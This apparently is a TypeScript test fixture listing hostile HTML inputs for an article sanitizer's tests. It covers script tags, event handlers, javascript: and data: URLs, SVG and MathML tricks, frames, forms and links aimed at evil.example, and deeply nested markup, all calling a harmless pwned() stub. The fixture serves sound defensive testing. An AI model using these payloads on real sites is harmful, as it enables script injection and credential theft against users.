const ours = '<img data-picture="0123456789abcdef01234567" alt="x">';

/**
 * What an attacker might put into an article's text. None of it may take effect in a page, a preview, a feed or the
 * editor: whatever it tries to run calls `pwned()`.
 */
export const hostileHtml: readonly (readonly [what: string, html: string])[] = [
  ['a script', '<p>a</p><script>pwned()</script>'],
  ['a script in capitals with a gap', '<ScRiPt >pwned()</ScRiPt >'],
  ['a script in a script', '<scr<script>ipt>pwned()</scr</script>ipt>'],
  ['a script from elsewhere', '<script src="//evil.example/x.js"></script>'],
  ['a script that never ends', '<p>a</p><script>pwned()'],
  ['an image with a handler', '<img src=x onerror=pwned()>'],
  ['an image with a handler behind a slash', '<img/src="x"/onerror="pwned()">'],
  [
    'a picture of ours with a handler',
    '<img data-picture="0123456789abcdef01234567" alt="x" onload="pwned()" src="javascript:pwned()">',
  ],
  [
    'a picture whose words break out',
    '<img data-picture="0123456789abcdef01234567" alt="&quot; onerror=&quot;pwned()">',
  ],
  [
    'a picture whose caption and credit break out',
    '<img data-picture="0123456789abcdef01234567" alt="x" data-caption="&quot;><script>pwned()</script>" data-credit="</small></figcaption><img src=x onerror=pwned()>">',
  ],
  ['a picture whose id breaks out', '<img data-picture=\'" onerror="pwned()\' alt="x">'],
  [
    'a picture from elsewhere',
    '<img src="https://evil.example/track.gif" srcset="https://evil.example/a.png 2x">',
  ],
  [
    'a gallery with a handler, and more than pictures in it',
    `<section data-gallery onclick="pwned()" class="dialog">${ours.repeat(2)}</section><section data-gallery="&quot; onclick=&quot;pwned()">${ours.repeat(2)}<script>pwned()</script><p onclick="pwned()">x</p></section>`,
  ],
  [
    'galleries in each other, in a link and in a heading',
    `<section data-gallery><section data-gallery>${ours.repeat(2)}</section><a href="/x"><section data-gallery>${ours.repeat(2)}</section></a></section><h2><section data-gallery>${ours.repeat(2)}</section></h2>`,
  ],
  [
    'a gallery that never ends, and one that never began',
    `</section><p><section data-gallery>${ours.repeat(2)}</p><blockquote>${ours}</section></blockquote>`,
  ],
  [
    'a gallery whose words break out',
    `<section data-gallery>${ours.replace('"x"', '"&quot;&gt;</a></div><img src=x onerror=&quot;pwned()"').repeat(2)}</section>`,
  ],
  [
    'a table with handlers, styles and a form',
    '<table onclick="pwned()" background="javascript:pwned()"><colgroup><col style="width:9999px"></colgroup><caption onclick="pwned()">x</caption><thead><tr><th onclick="pwned()" scope="evil" colspan="9999">a&quot; onfocus=&quot;pwned()</th></tr></thead><tr><td style="position:fixed"><form><input autofocus onfocus=pwned()></form><a href="javascript:pwned()">b</a></td></tr></table>',
  ],
  [
    'tables in each other, in a link and in a cell that ends another',
    '<table><tr><td><table><tr><td>a</td></tr></table></td></tr></table><a href="/x"><table><tr><td>b</td></tr></table></a><table><tr><td></table>c</td></tr></table></td></tr>',
  ],
  ['a row and a cell without a table', '<tr><td>a<script>pwned()</script></td></tr></table><td>b'],
  ['many tables that never end', '<table><tr><td>x'.repeat(2000)],
  [
    'a footnote with a handler, an id of the page, blocks and a script',
    '<p>a<span data-footnote="&quot; onclick=&quot;pwned()" id="root" class="footnotes" onclick="pwned()">b<script>pwned()</script><h2 id="footnotes">c</h2><img src=x onerror=pwned()><table><tr><td>d</td></tr></table><a href="javascript:pwned()">e</a></span></p>',
  ],
  [
    'footnotes in each other, in a link, in a gallery and in a cell that ends another',
    `<p>a<span data-footnote>b<span data-footnote>c</span></span><a href="/x">d<span data-footnote>e<a href="/y">f</a></span></a></p><section data-gallery>${ours}<span data-footnote>g</span>${ours}</section><table><tr><td>h<span data-footnote>i</td><td>j</span></td></tr></table>`,
  ],
  ['many footnotes that never end', '<p>a<span data-footnote>x'.repeat(2000)],
  [
    'a list of footnotes of somebody else',
    '<section class="footnotes"><h2 id="footnotes">x</h2><ol><li id="footnote-1"><a href="#footnote-1-mark" role="doc-backlink" onclick="pwned()">y</a></li></ol></section><sup onclick="pwned()"><a id="footnote-1-mark" href="#footnote-1">1</a></sup>',
  ],
  ['a link that runs', '<a href="javascript:pwned()">x</a>'],
  ['a link that runs, in pieces', '<a href=" jav&#x0A;ascript&colon;pwned()">x</a>'],
  ['a link that runs, behind a control character', '<a href="\u0001javascript:pwned()">x</a>'],
  ['a link of data', '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>'],
  ['a link in another script language', '<a href="vbscript:pwned()">x</a>'],
  [
    'a link to elsewhere that looks like ours',
    '<a href="//evil.example">x</a><a href="/\\evil.example">y</a>',
  ],
  ['a link that pretends to be a bank', '<a href="https://bank.example@evil.example/">x</a>'],
  [
    'a link with a handler and a target',
    '<a href="https://a.example" target="_blank" onclick="pwned()">x</a>',
  ],
  [
    'a drawing with a handler',
    '<svg onload=pwned()><script>pwned()</script><a xlink:href="javascript:pwned()">x</a></svg>',
  ],
  [
    'a drawing that animates a link',
    '<svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg>',
  ],
  [
    'mathematics with a link',
    '<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>',
  ],
  ['a frame', '<iframe src="javascript:pwned()"></iframe>'],
  ['a frame with a document in it', '<iframe srcdoc="<script>pwned()</script>"></iframe>'],
  ['an object and an embed', '<object data="javascript:pwned()"></object><embed src="javascript:pwned()">'],
  [
    'a form',
    '<form action="https://evil.example"><input name=password autofocus onfocus=pwned()><button formaction="javascript:pwned()">x</button></form>',
  ],
  [
    'a style',
    '<style>*{background:url("javascript:pwned()")}</style><p style="position:fixed;inset:0;z-index:9999">x</p>',
  ],
  [
    'another style sheet and another base',
    '<link rel=stylesheet href="//evil.example/x.css"><base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:pwned()">',
  ],
  [
    'a class and an id of the page',
    '<p class="dialog" id="root">x</p><h2 id="main" onclick="pwned()">y</h2>',
  ],
  [
    'a handler on everything',
    '<p onmouseover="pwned()"><strong onclick=pwned()>x</strong></p><details open ontoggle=pwned()>y</details>',
  ],
  [
    'markup that is told apart by a comment',
    '<!--><img src=x onerror=pwned()>--><!--[if gte mso 9]><script>pwned()</script><![endif]-->',
  ],
  ['markup hidden in a title', '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>'],
  [
    'markup hidden in a text area',
    '<textarea><img title="</textarea><img src=x onerror=pwned()>"></textarea>',
  ],
  ['markup hidden in a style', '<style><img title="</style><img src=x onerror=pwned()>"></style>'],
  [
    'markup hidden in raw text',
    '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp><plaintext><script>pwned()</script>',
  ],
  ['markup in a template', '<template><script>pwned()</script></template><slot onslotchange=pwned()></slot>'],
  ['markup as entities', '&lt;script&gt;pwned()&lt;/script&gt;&#60;img src=x onerror=pwned()&#62;'],
  ['markup as entities twice', '&amp;lt;img src=x onerror=pwned()&amp;gt;'],
  ['a tag that is not closed', '<p>x<img src="x" onerror="pwned()" '],
  ['an attribute that is not closed', '<a href="https://a.example/?" onmouseover="pwned()>x</a>'],
  ['an attribute with a strange name', '<p "><script>pwned()</script>="x" =\'"\'>x</p>'],
  ['a video that breaks out', "<div data-youtube='\"><script>pwned()</script>'></div>"],
  [
    'a video with a handler',
    '<div data-youtube="dQw4w9WgXcQ" onclick="pwned()"><iframe src="javascript:pwned()"></iframe></div>',
  ],
  [
    'a player with a handler and a frame',
    '<div data-player="https://open.spotify.com/album/6rqhFgbbKwnb9MLmUQDhG6" onclick="pwned()"><iframe src="javascript:pwned()"></iframe></div>',
  ],
  [
    'sound and moving pictures',
    '<video src=x onerror=pwned()><source onerror=pwned()></video><audio src=x onerror=pwned()></audio>',
  ],
  [
    'an element of our own making',
    '<x-evil onclick=pwned() is="x">x</x-evil><marquee onstart=pwned()>y</marquee>',
  ],
  ['text that turns around', '<p>\u202Egnp.exe\u2066</p>'],
  ['characters that are none', '<p>\u0000\uD800<scr\u0000ipt>pwned()</scr\u0000ipt></p>'],
  ['very deep markup', `${'<blockquote><em>'.repeat(3000)}x`],
  ['the end of the data of a page', '<p></script><script>pwned()</script>]]></p>'],
];
